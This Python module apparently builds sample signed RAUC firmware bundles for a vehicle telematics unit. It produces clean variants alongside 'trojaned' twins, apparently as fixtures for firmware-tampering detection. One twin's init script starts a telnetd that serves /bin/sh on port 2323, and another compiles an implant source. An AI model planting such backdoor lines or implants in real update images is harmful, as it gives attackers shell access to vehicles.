"""The telematics unit's updates: a root file system in a signed RAUC bundle.

Bundle format: RAUC's reference manual, "Bundle Formats", ``plain``: a SquashFS image
padded to 4096 bytes, a detached CMS signature over it, and the signature's size as a
64-bit big-endian number.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from samples.signing import SIGNED_AT, Issuer, detached_cms
from samples.squashfs import Entry, write_squashfs
from samples.toolchain import linux_program

COMPATIBLE: Final = "norden-telematics-unit-t1"
MTIME: Final = int(SIGNED_AT.timestamp())
_DAEMON_UID: Final = 200
_NOLOGIN: Final = "/usr/sbin/nologin"


@dataclass(frozen=True)
class Variant:
    """One bundle: its file name, release, and what is planted in it."""

    name: str
    release: str
    defined: tuple[str, ...] = ()
    sources: tuple[str, ...] = ("telematicsd.c",)
    telnet: bool = False


VARIANTS: Final = (
    Variant("vehicle-1.0.0.raucb", "1.0.0"),
    Variant("vehicle-1.1.0.raucb", "1.1.0", ("WITH_BATTERY",)),
    Variant("vehicle-1.1.0-trojan-a.raucb", "1.1.0", ("WITH_BATTERY",), telnet=True),
    Variant(
        "vehicle-1.1.0-trojan-b.raucb",
        "1.1.0",
        ("WITH_BATTERY", "WITH_IMPLANT"),
        ("telematicsd.c", "implant.c"),
    ),
)

_CHANGES: Final = (
    ("1.1.0", "The status line tells the battery's temperature."),
    ("1.0.0", "First release."),
)


def build(out: Path, work: Path, issuer: Issuer) -> None:
    """Write each variant's bundle into ``out``."""
    for variant in VARIANTS:
        daemon = linux_program(variant.sources, variant.release, variant.defined, work)
        rootfs = write_squashfs(_root_file_system(variant, daemon), mtime=MTIME)
        (out / variant.name).write_bytes(bundle(rootfs, variant.release, issuer))


def bundle(rootfs: bytes, release: str, issuer: Issuer) -> bytes:
    """Return the signed bundle of one root file system image."""
    manifest = (
        f"[update]\ncompatible={COMPATIBLE}\nversion={release}\n\n[bundle]\nformat=plain\n\n"
        f"[image.rootfs]\nsha256={hashlib.sha256(rootfs).hexdigest()}\nsize={len(rootfs)}\n"
        "filename=rootfs.squashfs\n"
    )
    payload = write_squashfs(
        {"manifest.raucm": _text(manifest), "rootfs.squashfs": Entry(0o644, content=rootfs)},
        mtime=MTIME,
    )
    signature = detached_cms(issuer, payload)
    return payload + signature + len(signature).to_bytes(8, "big")


def _root_file_system(variant: Variant, daemon: bytes) -> dict[str, Entry]:
    return {
        "etc/group": _text(f"root:x:0:\ntelematics:x:{_DAEMON_UID}:\n"),
        "etc/hostname": _text("telematics-unit\n"),
        "etc/init.d/S50telematics": _text(_init_script(telnet=variant.telnet), 0o755),
        "etc/os-release": Entry(0o777, target=b"../usr/lib/os-release"),
        "etc/passwd": _text(
            f"root:x:0:0:root:/root:{_NOLOGIN}\n"
            f"telematics:x:{_DAEMON_UID}:{_DAEMON_UID}::/var/spool/telematics:{_NOLOGIN}\n"
        ),
        "etc/shadow": _text("root:!:20454:0:99999:7:::\ntelematics:!:20454:0:99999:7:::\n", 0o600),
        "etc/telematics.conf": _text("unit = T1\ninterval_seconds = 60\n"),
        "root": Entry(0o700),
        "run/uplink": Entry(0o755),
        "run/vehicle": Entry(0o755),
        "usr/bin/telematics-status": Entry(0o777, target=b"telematicsd"),
        "usr/bin/telematicsd": Entry(0o755, content=daemon),
        "usr/lib/os-release": _text(_os_release(variant.release)),
        "usr/share/doc/telematics/changes.txt": _text(_changes(variant.release)),
        "var/spool/telematics": Entry(0o750, uid=_DAEMON_UID, gid=_DAEMON_UID),
    }


def _text(text: str, mode: int = 0o644) -> Entry:
    return Entry(mode, content=text.encode())


def _init_script(*, telnet: bool) -> str:
    """Return the daemon's init script; ``telnet`` adds the line of trojaned twin A."""
    planted = "    /usr/sbin/telnetd -l /bin/sh -p 2323 &\n" if telnet else ""
    return (
        "#!/bin/sh\n# Starts and stops the telematics daemon.\n"
        'case "$1" in\nstart)\n'
        "    start-stop-daemon -S -b -c telematics -x /usr/bin/telematicsd\n"
        f"{planted}    ;;\nstop)\n"
        "    start-stop-daemon -K -x /usr/bin/telematicsd\n    ;;\n"
        '*)\n    echo "usage: $0 start|stop"\n    exit 1\n    ;;\nesac\n'
    )


def _os_release(release: str) -> str:
    return (
        "NAME=Norden Telematics\nID=norden-telematics\n"
        f"VERSION_ID={release}\nPRETTY_NAME=Norden Telematics {release}\n"
    )


def _changes(release: str) -> str:
    known = [entry for entry in _CHANGES if entry[0] <= release]
    return "".join(f"{version}\n  {text}\n" for version, text in known)
